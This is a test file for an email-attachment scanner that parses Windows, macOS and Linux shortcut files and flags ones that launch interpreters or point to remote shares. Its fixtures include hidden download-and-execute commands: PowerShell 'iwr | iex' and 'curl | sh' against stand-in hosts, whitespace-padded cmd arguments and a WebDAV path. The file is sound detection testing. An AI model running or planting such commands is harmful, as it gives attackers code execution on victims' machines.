import { expect } from 'chai'
import { internetShortcutReader } from '../../../src/message/files/readers/internet-shortcut.ts'
import { shortcutReader } from '../../../src/message/files/readers/shortcut.ts'
import { damaged, readFile, urlsIn } from '../../helpers/read-file.ts'
import { shortcut } from '../../helpers/shortcut-writer.ts'

describe('message/files shortcuts', () => {
  it('reads target, arguments and URLs of a shortcut that starts an interpreter', async () => {
    const bytes = shortcut({
      target: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      written: '-w hidden -c "iwr https://load.example/a.ps1 | iex"',
    })
    const reading = await readFile(shortcutReader, 'a.lnk', bytes)
    expect(reading?.traits).to.deep.equal(['shortcut', 'lnk-command'])
    expect(urlsIn(reading, 'lnk')).to.deep.equal(['https://load.example/a.ps1'])
    expect(reading?.details?.[0]?.excerpt).to.contain('powershell.exe -w hidden')
  })

  it('sees through blanks before the arguments and through variables', async () => {
    const padded = shortcut({ variables: '%ComSpec%\\cmd.exe', written: `${' '.repeat(500)}/c start x` })
    const reading = await readFile(shortcutReader, 'a.lnk', padded)
    expect(reading?.traits).to.include('lnk-command')
    expect(reading?.details?.[0]?.excerpt).to.equal('%ComSpec%\\cmd.exe /c start x')
  })

  it('names network shares of target and icon', async () => {
    const reading = await readFile(
      shortcutReader,
      'a.lnk',
      shortcut({ share: '\\\\files.example\\share', icon: '\\\\files.example\\i.ico' }),
    )
    expect(reading?.traits).to.deep.equal(['shortcut', 'remote-file'])
    expect(reading?.details).to.deep.include({ trait: 'remote-file', excerpt: '\\\\files.example\\share' })
    const explorer = shortcut({ target: 'C:\\Windows\\explorer.exe', written: '\\\\10.0.0.9@80\\webdav' })
    expect((await readFile(shortcutReader, 'a.lnk', explorer))?.traits).to.include('lnk-command')
  })

  it('leaves shortcuts to documents and programs alone', async () => {
    for (const parts of [
      { target: 'C:\\Users\\ann\\Minutes.docx' },
      { target: 'C:\\Program Files\\Office\\winword.exe', written: '/n' },
      { target: 'C:\\Windows\\System32\\cmd.exe' },
      { relative: '..\\Common\\shell.docx', written: '' },
      { target: 'C:\\Windows\\explorer.exe', written: 'C:\\Users\\ann\\Documents' },
    ])
      expect((await readFile(shortcutReader, 'a.lnk', shortcut(parts)))?.traits, JSON.stringify(parts)).to.deep.equal(['shortcut'])
  })

  it('reads shortcuts that are text', async () => {
    const url = '[InternetShortcut]\r\nURL=https://page.example/a\r\nIconFile=\\\\icons.example\\x\\a.ico\r\n'
    const windows = await readFile(internetShortcutReader, 'a.url', Buffer.from(url))
    expect(windows?.traits).to.deep.equal(['shortcut', 'remote-file'])
    expect(urlsIn(windows, 'shortcut')).to.deep.equal(['https://page.example/a'])
    const unnamed = await readFile(internetShortcutReader, 'a.dat', Buffer.from(`\ufeff${url}`, 'utf16le'))
    expect(urlsIn(unnamed, 'shortcut')).to.deep.equal(['https://page.example/a'])
    const mac =
      '<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist><dict><key>URL</key><string>https://page.example/b</string></dict></plist>'
    expect(urlsIn(await readFile(internetShortcutReader, 'a.webloc', Buffer.from(mac)), 'shortcut')).to.deep.equal([
      'https://page.example/b',
    ])
    const linux = await readFile(
      internetShortcutReader,
      'a.desktop',
      Buffer.from('[Desktop Entry]\nExec=bash -c "curl https://x.example/s | sh"\n'),
    )
    expect(linux?.traits).to.deep.equal(['shortcut', 'lnk-command'])
    const bookmark = await readFile(
      internetShortcutReader,
      'Intranet.url',
      Buffer.from('[InternetShortcut]\nURL=https://intranet.example/\n'),
    )
    expect(bookmark?.traits).to.deep.equal(['shortcut'])
    expect(await readFile(internetShortcutReader, 'notes.txt', Buffer.from('URL=https://x.example/'))).to.equal(null)
  })

  it('bears damaged shortcuts', async () => {
    const whole = shortcut({ target: 'C:\\a.exe', relative: 'x', written: 'y'.repeat(50), icon: 'z', variables: '%A%' })
    for (const bytes of damaged(whole, 2_000)) await readFile(shortcutReader, 'a.lnk', bytes)
  })
})
